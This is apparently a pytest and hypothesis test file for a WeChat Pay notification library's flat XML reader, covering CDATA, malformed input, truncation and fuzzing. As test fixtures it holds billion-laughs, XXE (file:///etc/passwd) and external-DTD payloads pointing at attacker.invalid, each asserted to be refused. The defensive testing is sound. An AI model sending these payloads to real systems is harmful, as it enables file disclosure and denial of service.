"""The flat XML reader: CDATA and plain values alike, nothing but `<xml>` with text children, no DTD
or entities ever, and bad input only ever raises the two refusal errors."""

from __future__ import annotations

import re

import pytest
from _wechatpay_v2 import account, key, parse, payment, refund
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from paynotify_wechatpay._xml import MAX_XML_BYTES, parse_flat_xml, to_xml
from paynotify_wechatpay.testing import encrypt_v2_req_info

from paynotify import MalformedNotification, VerificationError

CDATA = re.compile(rb"<!\[CDATA\[(.*?)\]\]>", re.DOTALL)


def plain(body: bytes) -> bytes:
    """The same document with every CDATA section written as escaped plain text."""

    def escape(match: re.Match[bytes]) -> bytes:
        return match.group(1).replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")

    return CDATA.sub(escape, body)


def test_cdata_and_plain_values_read_alike() -> None:
    body = payment(attach="a&b <c> ]] d", total_fee=8888)
    assert b"<total_fee>8888</total_fee>" in body  # plain already
    as_plain = plain(body)
    assert b"CDATA" not in as_plain
    assert b"<attach>a&amp;b &lt;c&gt; ]] d</attach>" in as_plain
    ours, theirs = parse(body), parse(as_plain)
    assert ours.raw == theirs.raw
    assert ours.raw["attach"] == "a&b <c> ]] d"


def test_values_are_not_stripped_and_whitespace_between_elements_is_ignored() -> None:
    body = payment(attach="  two spaces  ")
    assert parse(body).raw["attach"] == "  two spaces  "
    spaced = re.sub(rb"(<xml>|</\w+>)", rb"\1\n  ", body)  # formatting between the elements only
    spaced = b'<?xml version="1.0" encoding="UTF-8"?>\n' + spaced + b"\n"
    assert spaced.count(b"\n  <") == len(parse(body).raw) + 1
    assert parse(spaced).raw == parse(body).raw
    # Inside a value whitespace is content: a padded amount is a different (unsigned) value.
    with pytest.raises(VerificationError):
        parse(body.replace(b"<total_fee>8888</total_fee>", b"<total_fee> 8888</total_fee>"))


def test_chinese_values_read_as_utf8() -> None:
    assert parse(payment(attach="测试 附加数据")).raw["attach"] == "测试 附加数据"


def test_cdata_holding_the_terminator_round_trips() -> None:
    text = to_xml({"a": "x]]>y", "b": 7})
    assert text == "<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a><b>7</b></xml>"
    assert parse_flat_xml(text.encode()) == {"a": "x]]>y", "b": "7"}


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><return_code>SUCCESS</return_code><attach>&lol3;</attach></xml>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><return_code>SUCCESS</return_code><attach>&xxe;</attach></xml>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<xml><return_code>SUCCESS</return_code></xml>"""
EXTERNAL_DTD = (
    b'<!DOCTYPE xml SYSTEM "http://attacker.invalid/x.dtd"><xml><return_code>SUCCESS</return_code></xml>'
)
BARE_DOCTYPE = b"<!DOCTYPE xml><xml><return_code>SUCCESS</return_code></xml>"


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD, BARE_DOCTYPE],
    ids=["billion-laughs", "xxe-etc-passwd", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_dtd_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(MalformedNotification, match=r"DTD|entity") as info:
        parse(body)
    assert "root:" not in str(info.value)  # nothing of /etc/passwd was read


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD, BARE_DOCTYPE])
def test_dtd_and_entities_are_refused_by_the_parser_itself(
    body: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Defence in depth: with the text scan switched off, the guarded expat parser still refuses.
    from paynotify_wechatpay import _xml

    monkeypatch.setattr(_xml, "_refuse_declarations", lambda text, what: None)
    with pytest.raises(MalformedNotification, match=r"contains a DTD.*refused") as info:
        parse(body)
    assert "root:" not in str(info.value)
    parser = _xml._parser_create("utf-8")
    parser.StartDoctypeDeclHandler = None  # even past the DOCTYPE, no entity is ever declared
    with pytest.raises(_xml._Forbidden, match="entity declaration"):
        parser.Parse(BILLION_LAUGHS, True)


def test_utf16_document_hiding_a_dtd_is_refused() -> None:
    body = (
        BILLION_LAUGHS.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"').decode().encode("utf-16")
    )
    with pytest.raises(MalformedNotification, match="not UTF-8"):
        parse(body)


def test_undefined_entity_reference_is_malformed() -> None:
    with pytest.raises(MalformedNotification, match="not well-formed"):
        parse(b"<xml><return_code>&nope;</return_code></xml>")


@pytest.mark.parametrize(
    ("body", "match"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"not xml at all", "not well-formed"),
        (b'{"return_code": "SUCCESS"}', "not well-formed"),
        (b"<xml><return_code>SUCCESS</return_code>", "not well-formed"),
        (b"<xml><a>1</a></xml><xml><a>2</a></xml>", "not well-formed"),
        (b"<root><return_code>SUCCESS</return_code></root>", r"root must be <xml>, found <root>"),
        (b"<xml><a>1</a><a>2</a></xml>", "<a> 2 times"),
        (b"<xml><a><b>1</b></a></xml>", "<a> has child elements"),
        (b'<xml><a x="1">1</a></xml>', "<a> has child elements or attributes"),
        (b'<xml version="2"><a>1</a></xml>', "attribute 'version'"),
        (b"<xml>text<a>1</a></xml>", "text between its elements"),
        (b"<xml>just text</xml>", "holds text instead of elements"),
        (b"<xml><a>\xff</a></xml>", "not UTF-8"),
        (b"<xml><a>\x01</a></xml>", "not well-formed"),
    ],
)
def test_not_flat_xml_is_malformed(body: bytes, match: str) -> None:
    with pytest.raises(MalformedNotification, match=match):
        parse(body)


def test_oversized_body_is_refused_without_relying_on_the_pipeline_limit() -> None:
    body = payment().replace(b"</xml>", b"<attach>" + b"x" * MAX_XML_BYTES + b"</attach></xml>")
    with pytest.raises(MalformedNotification, match="never WeChat Pay's"):
        parse(body)


def test_empty_root_is_a_notification_without_return_code() -> None:
    for body in (b"<xml/>", b"<xml></xml>", b"<xml>\n</xml>"):
        with pytest.raises(MalformedNotification, match="no return_code"):
            parse(body)


def test_every_truncation_of_a_payment_and_a_refund_is_refused() -> None:
    for body in (payment(), refund()):
        assert not body.endswith(b"\n")
        for cut in range(len(body)):
            with pytest.raises((MalformedNotification, VerificationError)):
                parse(body[:cut])


def test_encrypted_dtd_in_req_info_is_refused() -> None:
    body = refund()
    req_info = encrypt_v2_req_info(XXE.replace(b"<xml>", b"<root>").replace(b"</xml>", b"</root>"), key())
    forged = re.sub(rb"<req_info>.*?</req_info>", f"<req_info>{req_info}</req_info>".encode(), body)
    with pytest.raises(VerificationError, match="DTD"):
        parse(forged)


VALID = payment(attach="测试")
VALID_REFUND = refund()


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=512))
def test_random_bytes_only_raise_refusals(body: bytes) -> None:
    with pytest.raises((MalformedNotification, VerificationError)):
        parse(body)


@st.composite
def mutations(draw: st.DrawFn, base: bytes) -> bytes:
    data = bytearray(base)
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["replace", "insert", "delete"]))
        if action == "insert" or position == len(data):
            data[position:position] = draw(st.binary(min_size=1, max_size=8))
        elif action == "replace":
            data[position] = draw(st.integers(0, 255))
        else:
            del data[position : position + draw(st.integers(1, 8))]
    return bytes(data)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from([VALID, VALID_REFUND]).flatmap(lambda base: st.tuples(st.just(base), mutations(base))))
def test_mutated_notifications_only_raise_refusals_or_mean_the_same(case: tuple[bytes, bytes]) -> None:
    base, body = case
    try:
        result = parse(body)
    except (MalformedNotification, VerificationError):
        return
    # The rare mutation that survives (formatting whitespace, hex case of the sign, unused base64
    # bits, the refund's unauthenticated nonce_str) must not change what the notification says.
    original = parse(base)
    ignored = {"sign", "nonce_str"} if base is VALID_REFUND else {"sign"}
    assert {k: v for k, v in result.raw.items() if k not in ignored} == {
        k: v for k, v in original.raw.items() if k not in ignored
    }
    assert result.model_dump(exclude={"raw"}) == original.model_dump(exclude={"raw"})


NAMES = st.from_regex(r"[a-z][a-z0-9_]{0,15}", fullmatch=True)
VALUES = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Cn"), blacklist_characters="\r")
    | st.sampled_from("\t\n"),
    max_size=40,
)


@given(st.dictionaries(NAMES, VALUES | st.integers(0, 10**12), max_size=12))
def test_flat_documents_round_trip(fields: dict[str, str | int]) -> None:
    for newlines in (False, True):
        text = to_xml(fields, "root", newlines=newlines)
        assert parse_flat_xml(text.encode(), "root") == {k: str(v) for k, v in fields.items()}


def test_wrong_root_for_decrypted_content() -> None:
    with pytest.raises(MalformedNotification, match="root must be <root>"):
        parse_flat_xml(b"<xml><a>1</a></xml>", "root", what="decrypted req_info")


def test_account_used_by_these_tests_is_md5() -> None:
    assert account().settings.sign_type == "MD5"


def test_declaration_markers_inside_a_value_are_data_not_declarations() -> None:
    # Found by hypothesis: `attach` is merchant data and may contain anything, CDATA-wrapped.
    body = b"<xml><attach><![CDATA[<!ENTITY x <!DOCTYPE]]></attach></xml>"
    assert parse_flat_xml(body) == {"attach": "<!ENTITY x <!DOCTYPE"}


# -- the same answers as xmltodict, the reference reader of these documents ----------------------


def xmltodict_reference(body: bytes, root: str = "xml") -> dict[str, str] | None:
    """What xmltodict reads from `body` when it is a flat `<root>` document; None when it is not.

    The reader once was xmltodict plus these checks; it now drives expat itself (docs/benchmarks.md).
    """
    import xmltodict

    try:
        document = xmltodict.parse(body, disable_entities=True, strip_whitespace=False)
    except Exception:
        return None
    if not isinstance(document, dict) or list(document) != [root]:
        return None
    children = document[root]
    if children is None or isinstance(children, str):
        return {} if not (children and children.strip()) else None
    fields: dict[str, str] = {}
    for name, value in children.items():
        if name == "#text":
            if value.strip():
                return None
            continue
        if name.startswith("@") or isinstance(value, list | dict):
            return None
        fields[name] = "" if value is None else value
    return fields


TEXT = st.text(
    st.characters(codec="utf-8", blacklist_categories=("Cs", "Cc")) | st.sampled_from(" \t\n"), max_size=12
)
PIECES = st.one_of(
    TEXT.map(lambda t: t.replace("&", "&amp;").replace("<", "&lt;")),
    TEXT.map(lambda t: "<![CDATA[" + t.replace("]]>", "") + "]]>"),
    st.sampled_from(["&amp;", "&lt;", "&gt;", "&quot;", "&#20013;", "&#x41;", "<!-- c -->", "<?pi x?>"]),
)


def rarely(draw: st.DrawFn) -> bool:
    return draw(st.integers(0, 29)) == 0


@st.composite
def flat_ish_documents(draw: st.DrawFn) -> bytes:
    """Mostly flat documents, and now and then what must be refused: nesting, attributes, repeats,
    stray text, another root, an undefined entity."""
    root = "root" if rarely(draw) else "xml"
    parts = ['<xml x="1">' if rarely(draw) else f"<{root}>"]
    names = draw(st.lists(st.from_regex(r"[a-z_][a-z0-9_]{0,8}", fullmatch=True), max_size=6))
    if names and rarely(draw):
        names.append(names[0])
    for name in names:
        parts.append(draw(st.sampled_from(["", "", "\n  ", "\t"])) if not rarely(draw) else " text ")
        inner = "".join(draw(st.lists(PIECES, max_size=3)))
        if rarely(draw):
            inner = f"<b>{inner}</b>"
        elif rarely(draw):
            inner += "&nope;"
        parts.append(f"<{name}/>" if not inner and rarely(draw) else f"<{name}>{inner}</{name}>")
    parts.append(f"</{root}>")
    return "".join(parts).encode()


@settings(max_examples=1500, suppress_health_check=[HealthCheck.too_slow])
@given(flat_ish_documents())
def test_reads_exactly_what_xmltodict_reads(body: bytes) -> None:
    expected = xmltodict_reference(body)
    if expected is None:
        with pytest.raises(MalformedNotification):
            parse_flat_xml(body)
    else:
        assert parse_flat_xml(body) == expected


def test_the_reference_agrees_on_the_real_notifications() -> None:
    for body in (payment(attach="a&b <c> ]] d"), refund()):
        assert parse_flat_xml(body) == xmltodict_reference(body)
